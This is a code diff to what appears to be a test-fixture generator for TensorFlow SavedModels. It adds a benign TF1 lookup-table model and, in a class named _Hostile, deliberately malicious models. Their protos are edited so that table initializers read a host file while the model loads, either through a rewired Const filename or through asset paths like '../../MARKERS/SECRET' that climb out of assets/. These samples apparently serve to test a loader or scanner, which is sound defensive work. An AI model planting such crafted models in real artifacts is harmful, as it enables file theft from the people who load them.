@@ -237,6 +237,39 @@ def build_lookup_tables(out: Path) -> None:
     tf.saved_model.save(module, str(out / "lookup_tables"), signatures=module.ids)
 
 
+def build_v1_saved_model_with_table(out: Path, name: str = "v1_saved_model_with_table") -> None:
+    """A TF1 SavedModel (SavedModelBuilder): the vocabulary is an asset whose path is a Const of the
+    graph, listed in asset_file_def; the loader feeds the real path to it when it runs the main op."""
+    tf = _tf()
+    v1 = tf.compat.v1
+    vocab = out / SOURCES / "v1_vocab.txt"
+    vocab.write_text("red\ngreen\nblue\n")
+    graph = tf.Graph()
+    with graph.as_default(), v1.Session(graph=graph) as session:
+        words = v1.placeholder(tf.string, [None], name="x")
+        path = tf.constant(str(vocab), name="vocab_path")
+        v1.add_to_collection(v1.GraphKeys.ASSET_FILEPATHS, path)
+        table = tf.lookup.StaticHashTable(
+            tf.lookup.TextFileInitializer(
+                path, tf.string, tf.lookup.TextFileIndex.WHOLE_LINE,
+                tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER,
+            ),
+            default_value=-1,
+        )  # fmt: skip
+        ids = tf.identity(table.lookup(words), name="ids")
+        session.run(v1.tables_initializer())
+        builder = v1.saved_model.Builder(str(out / name))
+        signature = v1.saved_model.predict_signature_def({"x": words}, {"output_0": ids})
+        builder.add_meta_graph_and_variables(
+            session,
+            [v1.saved_model.tag_constants.SERVING],
+            signature_def_map={"serving_default": signature},
+            assets_collection=v1.get_collection(v1.GraphKeys.ASSET_FILEPATHS),
+            main_op=v1.tables_initializer(),
+        )
+        builder.save()
+
+
 def _frozen(function: Any) -> bytes:
     from tensorflow.python.framework.convert_to_constants import convert_variables_to_constants_v2
 
@@ -349,6 +382,66 @@ class _Hostile:
             module = self.module(body, spec)
             self.save(name, module, module.serve)
         self.build_on_load()
+        self.build_table_files()
+
+    def build_table_files(self) -> None:
+        """Lookup tables that read a host file while the model loads: the TF2 initializer's filename
+        rewired to a Const, and asset filenames (TF2 asset_file_def, TF1 'saved_model_assets') that
+        climb out of assets/. TensorFlow's API always copies a table's file into assets/, so the
+        SavedModels are written by TensorFlow and then edited with its own protos, as an attacker would."""
+        tf = _tf()
+        from tensorflow.core.protobuf import meta_graph_pb2, saved_model_pb2
+
+        vocab = self.out / SOURCES / "table_vocab.txt"
+        vocab.write_text("cat\ndog\n")
+
+        class Table(_module()):  # type: ignore[misc]
+            def __init__(self) -> None:
+                init = tf.lookup.TextFileInitializer(
+                    str(vocab), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE,
+                    tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER,
+                )  # fmt: skip
+                self.table = tf.lookup.StaticHashTable(init, default_value=-1)
+
+            @_traced(tf.TensorSpec([None], tf.string))
+            def serve(self, x: Any) -> Any:
+                return self.table.lookup(x)
+
+        def edit(name: str, change: Callable[[Any], None]) -> None:
+            saved = saved_model_pb2.SavedModel()
+            path = self.out / name / "saved_model.pb"
+            saved.ParseFromString(path.read_bytes())
+            change(saved.meta_graphs[0])
+            path.write_bytes(saved.SerializeToString())
+
+        def constant_filename(meta: Any) -> None:
+            [init] = [f for f in meta.graph_def.library.function if "_initializer" in f.signature.name]
+            [node] = [n for n in init.node_def if n.op == "InitializeTableFromTextFileV2"]
+            const = init.node_def.add(name="host_path", op="Const")
+            const.attr["dtype"].type = tf.string.as_datatype_enum
+            const.attr["value"].tensor.dtype = tf.string.as_datatype_enum
+            const.attr["value"].tensor.string_val.append(str(self.markers / SECRET).encode())
+            node.input[1] = "host_path:output:0"
+
+        def climbing_asset(meta: Any) -> None:
+            meta.asset_file_def[0].filename = f"../../{MARKERS}/{SECRET}"
+
+        def climbing_v1_asset(meta: Any) -> None:
+            for packed in meta.collection_def["saved_model_assets"].any_list.value:  # the builder writes two
+                asset = meta_graph_pb2.AssetFileDef()
+                packed.Unpack(asset)
+                asset.filename = f"../../{MARKERS}/{SECRET}"
+                packed.Pack(asset)
+
+        for name, change in (
+            ("table_constant_filename", constant_filename),
+            ("asset_climbs_out", climbing_asset),
+        ):
+            table = Table()
+            self.save(name, table, table.serve)
+            edit(name, change)
+        build_v1_saved_model_with_table(self.out, "v1_asset_climbs_out")
+        edit("v1_asset_climbs_out", climbing_v1_asset)
 
     def build_on_load(self) -> None:
         """A resource whose initializer writes a file: TensorFlow runs it inside tf.saved_model.load."""
@@ -436,6 +529,7 @@ def build(out: Path) -> None:
         build_lookup_tables,
         build_frozen_graph,
         build_frozen_v1_control_flow,
+        build_v1_saved_model_with_table,
         build_tflite,
     ):
         builder(out)
